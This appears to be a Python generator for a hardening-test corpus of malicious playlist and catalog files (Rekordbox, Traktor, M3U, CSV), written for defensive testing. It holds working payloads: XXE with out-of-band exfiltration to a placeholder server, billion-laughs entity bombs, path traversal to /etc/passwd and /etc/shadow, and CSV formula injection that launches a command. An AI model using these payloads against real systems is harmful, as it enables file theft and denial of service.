"""The hostile-input corpus: small odd and malicious files we author, committed under
tests/hardening/corpus/, and the writer that (re)generates them.

    .venv/bin/python -m tests.hardening.corpus          # rewrite tests/hardening/corpus/
    .venv/bin/python -m tests.hardening.corpus --check  # exit 1 if the folder has drifted

Each case is a file name and the bytes it holds. Files that must reach something outside
themselves carry placeholders a test fills in when it copies the corpus into tmp_path:
`__CANARY_URI__` (the file URI of a canary file whose text must never show up anywhere)
and `__CANARY_HTTP__` (a server on 127.0.0.1 that must never be asked anything). A plain
`canary.txt` next to the file is reached by a relative SYSTEM id. Big and special inputs
(20 MB attributes, 10 MB lines, FIFOs, symlinks) are made at test time: specials.py.
"""

from __future__ import annotations

import argparse
import codecs
import sys
from pathlib import Path

__all__ = ["CANARY_TEXT", "CASES", "CORPUS_DIR", "corpus_bytes", "fill_placeholders"]

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
CANARY_TEXT = "CANARY-5d1c-never-show-me"

# -- building blocks ------------------------------------------------------------------


def rekordbox(
    doctype: str = "", name: str = "Velvet Quarry", head: str = "", tail: str = ""
) -> str:
    """A small valid Rekordbox export, with room for a hostile prolog or name."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}{doctype}\n'
        '<DJ_PLAYLISTS Version="1.0.0">\n'
        '  <PRODUCT Name="rekordbox" Version="6.8.5" Company="AlphaTheta"/>\n'
        '  <COLLECTION Entries="2">\n'
        f'    <TRACK TrackID="1" Name="{name}" Artist="Tamsin Orlo" TotalTime="401"/>\n'
        '    <TRACK TrackID="2" Name="Harbor Lights" Artist="Bexley Crane" TotalTime="380"/>\n'
        "  </COLLECTION>\n"
        '  <PLAYLISTS><NODE Type="0" Name="ROOT" Count="1">'
        '<NODE Name="Peak" Type="1" KeyType="0" Entries="2"><TRACK Key="1"/><TRACK Key="2"/>'
        f"</NODE></NODE></PLAYLISTS>{tail}\n</DJ_PLAYLISTS>\n"
    )


def nml(doctype: str = "", title: str = "Velvet Quarry", key: str = "v/:m/:a.mp3") -> str:
    """A small valid Traktor NML with one playlist."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no" ?>\n'
        f'{doctype}<NML VERSION="19"><HEAD COMPANY="www.native-instruments.com" PROGRAM="Traktor"/>'
        '<COLLECTION ENTRIES="1">'
        f'<ENTRY TITLE="{title}" ARTIST="Tamsin Orlo">'
        '<LOCATION DIR="/:m/:" FILE="a.mp3" VOLUME="v"/>'
        '<INFO PLAYTIME="401"/></ENTRY></COLLECTION>'
        '<PLAYLISTS><NODE TYPE="FOLDER" NAME="$ROOT"><SUBNODES COUNT="1">'
        '<NODE TYPE="PLAYLIST" NAME="Peak"><PLAYLIST ENTRIES="1" TYPE="LIST" UUID="u1">'
        f'<ENTRY><PRIMARYKEY TYPE="TRACK" KEY="{key}"/></ENTRY>'
        "</PLAYLIST></NODE></SUBNODES></NODE></PLAYLISTS></NML>\n"
    )


M3U = (
    "#EXTM3U\n#EXTINF:401,Tamsin Orlo - Velvet Quarry\n/Music/Tamsin Orlo - Velvet Quarry.mp3\n"
    "#EXTINF:380,Bexley Crane - Harbor Lights (Extended Mix)\n/Music/harbor lights.mp3\n"
    "#EXTINF:-1,Ünïcødé Ártist - Çafé Déjà Vu\n/Music/cafe.mp3\n"
)
EXPORTIFY = (
    '"Track URI","Track Name","Artist Name(s)","Album Name","Track Duration (ms)","ISRC"\n'
    '"spotify:track:1","Velvet Quarry - Extended Mix","Tamsin Orlo","Velvet Quarry EP",'
    '"455000","QZQRY2200002"\n'
    '"spotify:track:2","Harbor Lights","Bexley Crane","Harbor Lights","380200",""\n'
)
CATALOG = (
    "catalog_id,title,mix,artists,remixers,label,release,release_date,bpm,key,genre,"
    "duration_s,isrc\n"
    "9100001,Velvet Quarry,Original Mix,Tamsin Orlo,,Quarrystone,Velvet Quarry EP,"
    "2022-04-01,124,A Minor,Deep House,401,QZQRY2200001\n"
    "9100003,Harbor Lights,Original Mix,Bexley Crane,,Lanternfish,Harbor Lights,"
    "2021-09-10,128,F# Major,Tech House,380,QZLNT2100003\n"
)

_LAUGHS = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
)
_BLOWUP = f'<!ENTITY big "{"x" * 20000}">'
_BOMS = {
    "utf8": codecs.BOM_UTF8,
    "utf16le": codecs.BOM_UTF16_LE,
    "utf16be": codecs.BOM_UTF16_BE,
    "utf32le": codecs.BOM_UTF32_LE,
    "utf32be": codecs.BOM_UTF32_BE,
}
_CODECS = {
    "utf8": "utf-8",
    "utf16le": "utf-16-le",
    "utf16be": "utf-16-be",
    "utf32le": "utf-32-le",
    "utf32be": "utf-32-be",
}


def _with_bom(text: str, kind: str) -> bytes:
    return _BOMS[kind] + text.encode(_CODECS[kind])


def _xml_cases() -> dict[str, bytes]:
    entity = "&leak;"
    cases = {
        # external entities: a file next to the playlist, a file URI, a URL
        "xxe-relative-file.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY leak SYSTEM "canary.txt">]>', entity
        ),
        "xxe-file-uri.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY leak SYSTEM "__CANARY_URI__">]>', entity
        ),
        "xxe-http.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY leak SYSTEM "__CANARY_HTTP__/xxe">]>', entity
        ),
        "xxe-parameter-entity.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY % p SYSTEM "__CANARY_HTTP__/param"> %p;]>'
        ),
        "xxe-parameter-entity-file.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY % p SYSTEM "canary.txt"> %p;]>'
        ),
        "xxe-nested-parameter.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY % file SYSTEM "__CANARY_URI__">'
            "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '__CANARY_HTTP__/?x=%file;'>\">"
            "%eval; %exfil;]>"
        ),
        "external-dtd-system.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS SYSTEM "__CANARY_HTTP__/dtd">'
        ),
        "external-dtd-public.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS PUBLIC "-//Evil//EN" "__CANARY_HTTP__/public.dtd">'
        ),
        "external-dtd-file.xml": rekordbox('<!DOCTYPE DJ_PLAYLISTS SYSTEM "canary.txt">'),
        "billion-laughs.xml": rekordbox(f"<!DOCTYPE DJ_PLAYLISTS [{_LAUGHS}]>", "&a9;"),
        "quadratic-blowup.xml": rekordbox(f"<!DOCTYPE DJ_PLAYLISTS [{_BLOWUP}]>", "&big;" * 2000),
        "doctype-after-comment.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY leak SYSTEM "canary.txt">]>', entity, "<!-- hi -->\n"
        ),
        "doctype-after-70kb-comment.xml": rekordbox(
            '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY leak SYSTEM "canary.txt">]>',
            entity,
            f"<!-- {'pad ' * 18000} -->\n",
        ),
        "doctype-bare.xml": rekordbox("<!DOCTYPE DJ_PLAYLISTS>"),
        "xinclude.xml": rekordbox(
            tail='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="canary.txt" '
            'parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="__CANARY_HTTP__/xinclude"/>'
        ),
        "xml-stylesheet-pi.xml": rekordbox(
            head='<?xml-stylesheet type="text/xsl" href="__CANARY_HTTP__/evil.xsl"?>\n'
        ),
        "schema-location.xml": rekordbox().replace(
            '<DJ_PLAYLISTS Version="1.0.0">',
            '<DJ_PLAYLISTS Version="1.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            ' xsi:noNamespaceSchemaLocation="__CANARY_HTTP__/schema.xsd">',
        ),
        "xxe-nml.nml": nml('<!DOCTYPE NML [<!ENTITY leak SYSTEM "canary.txt">]>', entity),
        "billion-laughs.nml": nml(f"<!DOCTYPE NML [{_LAUGHS}]>", "&a9;"),
        "external-dtd.nml": nml('<!DOCTYPE NML SYSTEM "__CANARY_HTTP__/nml.dtd">'),
        "deep-nesting.xml": rekordbox(tail="<NODE>" * 3000 + "</NODE>" * 3000),
        "truncated.xml": rekordbox()[:300],
        "truncated.nml": nml()[:250],
        "unclosed-attribute.xml": rekordbox().replace('Name="Velvet Quarry"', 'Name="Velvet Q'),
        "nul-bytes.xml": rekordbox(name="Vel\x00vet"),
        "undefined-entity.xml": rekordbox(name="&nbsp;&copy;"),
        "numeric-char-refs.xml": rekordbox(name="&#0;&#x1F;&#xD800;&#1114112;"),
        "cdata-and-comments.xml": rekordbox(
            name="Quarry", tail="<!-- x --><![CDATA[<TRACK Key='1'/>]]>"
        ),
        "missing-keys.xml": rekordbox().replace('<TRACK Key="2"/>', '<TRACK Key="999"/><TRACK/>'),
        "wrong-root.xml": b'<?xml version="1.0"?><rss><channel/></rss>',
        "crlf.xml": rekordbox().replace("\n", "\r\n"),
        "cr-only.xml": rekordbox().replace("\n", "\r"),
        "declared-latin1-is-utf8.xml": rekordbox(name="Çafé Déjà Vu").replace(
            'encoding="UTF-8"', 'encoding="ISO-8859-1"'
        ),
        "declared-utf8-is-cp1252.xml": rekordbox(name="Çafé Déjà Vu").encode("cp1252"),
        "declared-unknown-encoding.xml": rekordbox().replace(
            'encoding="UTF-8"', 'encoding="klingon"'
        ),
        "declared-utf7-doctype.xml": (
            '<?xml version="1.0" encoding="UTF-7"?>'
            "+ADw-!DOCTYPE DJ_PLAYLISTS +AFs-+ADw-!ENTITY leak SYSTEM "
            "+ACI-canary.txt+ACI-+AD4-+AF0-+AD4-"
            "+ADw-DJ_PLAYLISTS Version+AD0AIg-1+ACIAPg-+ADw-/DJ_PLAYLISTS+AD4-"
        ),
        "utf16-no-bom.xml": rekordbox()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16-le"),
        "xxe-utf16.xml": _with_bom(
            rekordbox(
                '<!DOCTYPE DJ_PLAYLISTS [<!ENTITY leak SYSTEM "canary.txt">]>', entity
            ).replace('encoding="UTF-8"', 'encoding="UTF-16"'),
            "utf16le",
        ),
        "empty-playlists.xml": rekordbox().split("<PLAYLISTS>")[0] + "</DJ_PLAYLISTS>\n",
        "hostile-node-names.xml": rekordbox().replace(
            'Name="Peak"', 'Name="../../../etc/passwd&#10;CON"'
        ),
        "nml-dangling-key.nml": nml(key="v/:nowhere/:x.mp3"),
        "nml-truncated-utf8.nml": nml(title="Déjà").encode()[:-60] + b"\xc3",
    }
    for kind in _BOMS:
        cases[f"bom-{kind}.xml"] = _with_bom(
            rekordbox().replace('encoding="UTF-8"', 'encoding="UTF-16"' if "16" in kind else ""),
            kind,
        )
    return {name: v if isinstance(v, bytes) else v.encode() for name, v in cases.items()}


def _text_cases() -> dict[str, bytes]:
    cases: dict[str, str | bytes] = {
        "plain.m3u8": M3U,
        "crlf.m3u8": M3U.replace("\n", "\r\n"),
        "cr-only.m3u8": M3U.replace("\n", "\r"),
        "utf16-no-bom-le.m3u": M3U.encode("utf-16-le"),
        "utf16-no-bom-be.m3u": M3U.encode("utf-16-be"),
        "cp1252.m3u": M3U.encode("cp1252"),
        "nul-bytes.m3u8": M3U.replace("Velvet", "Vel\x00vet"),
        "truncated-multibyte.m3u8": M3U.encode()[: M3U.encode().index("Ü".encode()) + 1],
        "extinf-junk.m3u": "#EXTM3U\n#EXTINF:NaN,\n/a.mp3\n#EXTINF:1e309,x - y\n/b.mp3\n"
        '#EXTINF:-0 tvg="x",\n\n#EXTINF\n/c.flac\n#EXTVDJ:<artist>&amp;&#0;</artist>'
        "<songlength>inf</songlength><bpm>-1e999</bpm>\n/d.mp3\n",
        "file-uri-to-canary.m3u": "#EXTM3U\n__CANARY_URI__\nfile:///dev/zero\n/dev/zero\n"
        "/proc/self/environ\n/etc/passwd\n../../../../etc/shadow\n",
        "urls-only.m3u": "#EXTM3U\nhttp://127.0.0.1:9/x.mp3\nspotify:track:1\nsmb://host/x.mp3\n",
        "only-comments.m3u": "#EXTM3U\n#EXTINF:1,a - b\n# nothing else\n",
        "plain.csv": EXPORTIFY,
        "crlf.csv": EXPORTIFY.replace("\n", "\r\n"),
        "cr-only.csv": EXPORTIFY.replace("\n", "\r"),
        "utf16-no-bom.csv": EXPORTIFY.encode("utf-16-le"),
        "cp1252.csv": EXPORTIFY.replace("Velvet", "Véłvet").encode("cp1252", "replace"),
        "nul-bytes.csv": EXPORTIFY.replace("Harbor", "Har\x00bor"),
        "unbalanced-quotes.csv": EXPORTIFY + '"spotify:track:3","Open quote,"x\n',
        "header-only.csv": EXPORTIFY.split("\n")[0] + "\n",
        "semicolons.csv": EXPORTIFY.replace('","', '";"'),
        "tabs.tsv": EXPORTIFY.replace('","', '"\t"'),
        "formula-cells.csv": EXPORTIFY.replace("Harbor Lights", '=HYPERLINK("x")').replace(
            "Bexley Crane", "+cmd|' /C calc'!A0"
        ),
        "ragged-rows.csv": EXPORTIFY + '"x"\n"a","b","c","d","e","f","g","h","i"\n',
        "catalog.csv": CATALOG,
        "catalog-crlf-bom.csv": codecs.BOM_UTF8 + CATALOG.replace("\n", "\r\n").encode(),
        "catalog-utf16.csv": _with_bom(CATALOG, "utf16le"),
        "catalog-missing-columns.csv": "id,name\n1,x\n",
        "catalog-duplicate-ids.csv": CATALOG + CATALOG.split("\n", 1)[1],
        "catalog-bad-cells.csv": CATALOG.split("\n")[0]
        + "\n1,T,,A,,,,,not-a-bpm,H# Mega,,-5,x\n,no id,,A,,,,,,,,,\n2,,,A,,,,,,,,,\n",
        "catalog-nul.csv": CATALOG.replace("Velvet", "Vel\x00vet"),
        "catalog-truncated.csv.gz": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x4b" * 20,
        "empty.m3u8": b"",
        "empty.csv": b"",
        "empty.xml": b"",
        "blank-lines.m3u": "\n\n   \n\t\n",
        "bom-only.m3u8": codecs.BOM_UTF8,
        "single-nul.csv": b"\x00",
        "png-named.m3u": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        "sqlite-named.csv": b"SQLite format 3\x00" + bytes(200),
        "zip-named.xml": b"PK\x03\x04" + bytes(range(64)),
        "gzip-named.m3u": b"\x1f\x8b\x08\x00" + bytes(100),
    }
    for kind in _BOMS:
        cases[f"bom-{kind}.m3u8"] = _with_bom(M3U, kind)
        cases[f"bom-{kind}.csv"] = _with_bom(EXPORTIFY, kind)
    return {name: v if isinstance(v, bytes) else v.encode() for name, v in cases.items()}


CASES: dict[str, bytes] = {**_xml_cases(), **_text_cases()}


def corpus_bytes(name: str) -> bytes:
    return CASES[name]


def fill_placeholders(data: bytes, canary_uri: str, canary_http: str) -> bytes:
    """The case's bytes with the placeholders filled in (in whatever encoding it uses)."""
    for placeholder, value in (("__CANARY_URI__", canary_uri), ("__CANARY_HTTP__", canary_http)):
        for codec in ("utf-8", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
            data = data.replace(placeholder.encode(codec), value.encode(codec))
    return data


def _write(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.iterdir():
        if old.name not in CASES:
            old.unlink()
    for name, data in CASES.items():
        (folder / name).write_bytes(data)


def _drift(folder: Path) -> list[str]:
    on_disk = {p.name for p in folder.iterdir()} if folder.is_dir() else set()
    wrong = [n for n, d in CASES.items() if n not in on_disk or (folder / n).read_bytes() != d]
    return sorted(wrong + sorted(on_disk - set(CASES)))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--check", action="store_true", help="only report drift")
    args = parser.parse_args(argv)
    drift = _drift(CORPUS_DIR)
    if args.check:
        print("\n".join(drift) or f"{len(CASES)} files, no drift")
        return 1 if drift else 0
    _write(CORPUS_DIR)
    print(f"wrote {len(CASES)} files to {CORPUS_DIR}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
